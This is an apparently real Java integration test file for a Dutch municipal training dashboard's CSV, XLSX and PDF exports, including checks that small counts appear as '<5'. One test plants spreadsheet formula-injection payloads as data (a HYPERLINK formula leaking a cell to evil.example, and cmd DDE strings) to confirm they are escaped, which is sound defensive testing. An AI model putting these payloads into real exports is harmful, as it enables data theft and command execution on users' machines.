package nl.omzien.dashboard;

import nl.omzien.base.InvalidInputException;
import nl.omzien.certificates.CertificateService;
import nl.omzien.certificates.PdfReading;
import nl.omzien.dashboard.internal.TableExports;
import nl.omzien.test.IntegrationTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.jooq.DSLContext;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.context.SecurityContextHolder;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.transaction.support.TransactionTemplate;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Set;

import static nl.omzien.dashboard.internal.db.Tables.DASHBOARD_COMMENT;
import static nl.omzien.people.internal.db.Tables.ORGANISATION;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Exports read back the way a policy officer's tools would: CSV, XLSX and the council PDF; the partner sticker. */
class DashboardExportsTest extends IntegrationTest {

    static final Locale NL = Locale.of("nl");

    @Autowired DSLContext db;
    @Autowired ApplicationEventPublisher events;
    @Autowired TransactionTemplate tx;
    @Autowired DashboardService dashboard;
    @Autowired CertificateService certificates;
    @Autowired UserDetailsService accounts;

    DashboardFixture f;
    DashboardFilter year2025;

    @BeforeEach
    void fixture() {
        f = DashboardFixture.create(db, events, tx);
        year2025 = DashboardFilter.year(f.municipalityId, 2025);
        var user = accounts.loadUserByUsername(f.leadEmail);
        SecurityContextHolder.getContext().setAuthentication(
                UsernamePasswordAuthenticationToken.authenticated(user, null, user.getAuthorities()));
        certificates.revoke(f.certificates.get("p4/" + DashboardFixture.PATH_X), "Verkeerde persoon, fixture");
        dashboard.savePartnerRule(f.municipalityId, 80, 2);
        dashboard.saveTarget(f.municipalityId, 2025, TargetKind.TRAINED, null, 10);
    }

    @AfterEach
    void signOut() {
        SecurityContextHolder.clearContext();
    }

    static List<CSVRecord> parse(byte[] csv) throws Exception {
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        return CSVFormat.DEFAULT.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1))).getRecords();
    }

    @Test
    void csvOfEveryTableParsesBackWithTheSameNumbers() throws Exception {
        for (DashboardTable table : dashboard.tables(year2025, NL, false)) {
            List<CSVRecord> records = parse(dashboard.csv(year2025, table.name(), NL, false));
            assertThat(records).as(table.name()).hasSize(table.rows().size());
        }
        List<CSVRecord> sectors = parse(dashboard.csv(year2025, "sector", NL, false));
        assertThat(sectors.getFirst().toList()).containsExactly("Kapper", "2");
        assertThat(sectors.getFirst().getParser().getHeaderNames()).containsExactly("Sector", "Mensen");
        List<CSVRecord> organisations = parse(dashboard.csv(year2025, "organisations", NL, false));
        assertThat(organisations).hasSize(3);
        CSVRecord kapsalon = organisations.stream().filter(r -> r.get("Organisatie").startsWith("Kapsalon")).findFirst().orElseThrow();
        assertThat(kapsalon.get("Getraind in periode")).isEqualTo("2");
        assertThat(kapsalon.get("Deel getraind (%)")).as("a decimal comma for Dutch Excel").isEqualTo("100,0");
        assertThat(kapsalon.get("Laatste training")).isEqualTo("2025-03-10");
        assertThat(kapsalon.get("Omzien-partner")).isEqualTo("Ja");
        assertThat(parse(dashboard.csv(year2025, "comments", NL, false))).extracting(r -> r.get("Opmerking"))
                .containsExactly("Top avond", "", "Heel leerzaam");
    }

    @Test
    void csvTextsThatASpreadsheetWouldRunAsAFormulaStartWithAQuoteAndStayReadable() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")";
        String command = "+cmd|' /C calc'!A0";
        String sum = "@SUM(1+1)*cmd|' /C calc'!A0";
        db.update(ORGANISATION).set(ORGANISATION.NAME, hyperlink).where(ORGANISATION.ID.eq(f.organisations.get("A"))).execute();
        db.update(ORGANISATION).set(ORGANISATION.NAME, command).where(ORGANISATION.ID.eq(f.organisations.get("B"))).execute();
        db.update(ORGANISATION).set(ORGANISATION.NAME, sum).where(ORGANISATION.ID.eq(f.organisations.get("C"))).execute();
        db.update(DASHBOARD_COMMENT).set(DASHBOARD_COMMENT.COMMENT, "-2+3+cmd|' /C calc'!A0")
                .set(DASHBOARD_COMMENT.DO_DIFFERENTLY, "\t=1+1").where(DASHBOARD_COMMENT.COMMENT.eq("Top avond")).execute();
        db.update(DASHBOARD_COMMENT).set(DASHBOARD_COMMENT.COMMENT, "\r=1+1").where(DASHBOARD_COMMENT.COMMENT.eq("Heel leerzaam")).execute();

        List<CSVRecord> organisations = parse(dashboard.csv(year2025, "organisations", NL, false));
        assertThat(organisations).extracting(r -> r.get("Organisatie"))
                .containsExactlyInAnyOrder("'" + hyperlink, "'" + command, "'" + sum);
        CSVRecord formerKapsalon = organisations.stream().filter(r -> r.get("Organisatie").equals("'" + hyperlink)).findFirst().orElseThrow();
        assertThat(formerKapsalon.get("Getraind in periode")).as("numbers stay numbers").isEqualTo("2");
        List<CSVRecord> comments = parse(dashboard.csv(year2025, "comments", NL, false));
        assertThat(comments).extracting(r -> r.get("Opmerking")).containsExactly("'-2+3+cmd|' /C calc'!A0", "", "'\r=1+1");
        assertThat(comments.getFirst().toList()).contains("'\t=1+1");
        // Only texts change: a negative number stays a number, a text that starts with a minus gets the quote.
        assertThat(TableExports.csv(new DashboardTable("t", "T", List.of("Tekst", "Getal", "Breuk"),
                List.of(List.of("-", -3L, -1.5), List.of("- min", 0L, 2.0), List.of("\u0000=1+1", 1L, 0.5)), Set.of()), NL))
                .asString(StandardCharsets.UTF_8).contains("'-;-3;-1,5", "'- min;0;2,0", "'\u0000=1+1;1;0,5");
    }

    @Test
    void publicationCsvShowsSmallGroupsAsLessThanFive() throws Exception {
        List<CSVRecord> sectors = parse(dashboard.csv(year2025, "sector", NL, true));
        assertThat(sectors).extracting(r -> r.get(1)).containsExactly("<5", "<5");
        List<CSVRecord> figures = parse(dashboard.csv(year2025, "figures", NL, true));
        assertThat(figures.getFirst().get(0)).isEqualTo("Mensen getraind");
        assertThat(figures.getFirst().get(1)).isEqualTo("<5");
    }

    @Test
    void noPublicationCsvShowsANumberUnderFiveOrOneThatGivesItAway() throws Exception {
        List<String> leaks = new java.util.ArrayList<>();
        for (DashboardTable table : dashboard.tables(year2025, NL, false)) {
            List<CSVRecord> records = parse(dashboard.csv(year2025, table.name(), NL, true));
            // A table without rows (no released stories in the fixture) has only its headers.
            leaks.addAll(PublishedTableCheck.leaks(table.name(), table.headers(),
                    records.stream().map(CSVRecord::toList).toList()));
        }
        assertThat(leaks).isEmpty();
        // 3 trained of 5 seats: the attendance share and the averages over fewer than five are hidden too.
        List<CSVRecord> figures = parse(dashboard.csv(year2025, "figures", NL, true));
        assertThat(figures).filteredOn(r -> List.of("Opkomst", "Gemiddeld cijfer bijeenkomsten", "Vertrouwen voor de training (1-5)",
                "Vertrouwen na de training (1-5)").contains(r.get(0))).extracting(r -> r.get(1)).containsOnly("<5");
        CSVRecord kapsalon = parse(dashboard.csv(year2025, "organisations", NL, true)).stream()
                .filter(r -> r.get("Organisatie").startsWith("Kapsalon")).findFirst().orElseThrow();
        assertThat(kapsalon.get("Deel getraind (%)")).as("2 of 2 staff").isEqualTo("<5");
        CSVRecord target = parse(dashboard.csv(year2025, "targets", NL, true)).getFirst();
        assertThat(List.of(target.get("Bereikt"), target.get("Deel getraind (%)"))).containsExactly("<5", "<5");
        // The unpublished export keeps the real numbers.
        assertThat(parse(dashboard.csv(year2025, "targets", NL, false)).getFirst().get("Bereikt")).isEqualTo("3");
    }

    @Test
    void noPublicationXlsxSheetShowsANumberUnderFiveOrOneThatGivesItAway() throws Exception {
        byte[] xlsx = dashboard.xlsx(year2025, NL, true);
        List<String> leaks = new java.util.ArrayList<>();
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : workbook.getSheets().toList()) {
                List<Row> rows = sheet.read();
                List<String> headers = cells(rows.getFirst());
                leaks.addAll(PublishedTableCheck.leaks(sheet.getName(), headers, rows.stream().skip(1).map(r -> cells(r)).toList()));
                if (sheet.getName().equals("Kerncijfers")) {
                    assertThat(cells(rows.get(1))).containsExactly("Mensen getraind", "<5");
                }
                if (sheet.getName().equals("Doelen")) {
                    assertThat(cells(rows.get(1)).subList(3, 5)).containsExactly("<5", "<5");
                }
            }
        }
        assertThat(leaks).isEmpty();
    }

    private static List<String> cells(Row row) {
        List<String> cells = new java.util.ArrayList<>();
        for (int c = 0; c < row.getCellCount(); c++) {
            cells.add(row.getCellText(c));
        }
        return cells;
    }

    @Test
    void thePublicationCouncilReportShowsNoNumberUnderFive() throws Exception {
        String text = PdfReading.text(dashboard.councilReport(year2025, NL, true));
        String figuresAndCharts = text.substring(0, text.indexOf("Wat deelnemers zeggen"));
        assertThat(figuresAndCharts).contains("Mensen getraind <5", "Kapper <5", "<5 van 10");
        // Sessions held and organisations reached are not groups of people; every other figure and bar is.
        assertThat(figuresAndCharts.lines().map(String::strip).filter(line -> line.matches(".* [1-4]") || line.matches(".*\\b[1-4] van \\d+.*"))
                .filter(line -> !line.startsWith("Bijeenkomsten gehouden") && !line.startsWith("Organisaties met getrainde mensen"))
                .toList()).isEmpty();
        assertThat(figuresAndCharts).doesNotContain("Mensen getraind 3", "3 van 10", "60,0%");
    }

    @Test
    void xlsxHasOneSheetPerTableWithNumbersAsNumbers() throws Exception {
        byte[] xlsx = dashboard.xlsx(year2025, NL, false);
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            List<String> names = workbook.getSheets().map(Sheet::getName).toList();
            assertThat(names).contains("Kerncijfers", "Per sector", "Organisaties", "Doelen", "Wat deelnemers zeggen");
            Sheet sector = workbook.getSheets().filter(s -> s.getName().equals("Per sector")).findFirst().orElseThrow();
            List<Row> rows = sector.read();
            assertThat(rows.get(0).getCellText(0)).isEqualTo("Sector");
            assertThat(rows.get(1).getCellText(0)).isEqualTo("Kapper");
            assertThat(rows.get(1).getCellAsNumber(1).orElseThrow().intValue()).isEqualTo(2);
            Sheet targets = workbook.getSheets().filter(s -> s.getName().equals("Doelen")).findFirst().orElseThrow();
            assertThat(targets.read().get(1).getCellAsNumber(3).orElseThrow().intValue()).isEqualTo(3);
        }
    }

    @Test
    void councilReportHasThePeriodFiguresTargetsAndComments() throws Exception {
        byte[] pdf = dashboard.councilReport(year2025, NL, false);
        Files.createDirectories(Path.of("target/dashboard"));
        Files.write(Path.of("target/dashboard/raadsverslag.pdf"), pdf);
        String text = PdfReading.text(pdf);
        assertThat(text).contains("verslag voor de gemeenteraad", f.municipalityName, "januari 2025", "december 2025",
                "Mensen getraind", "Kapper", "3 van 10", "Heel leerzaam", "Meer oefenen met gesprekken");
        assertThat(text).doesNotContain("Persoon p1");
    }

    @Test
    void onlyAPartnerGetsAWindowStickerWithItsName() throws Exception {
        byte[] sticker = dashboard.partnerSticker(f.organisations.get("A"), NL);
        Files.createDirectories(Path.of("target/dashboard"));
        Files.write(Path.of("target/dashboard/raamsticker.pdf"), sticker);
        assertThat(PdfReading.text(sticker)).contains("Kapsalon Fixture", "Omzien-partner");
        assertThatThrownBy(() -> dashboard.partnerSticker(f.organisations.get("B"), NL)).isInstanceOf(InvalidInputException.class);
    }
}
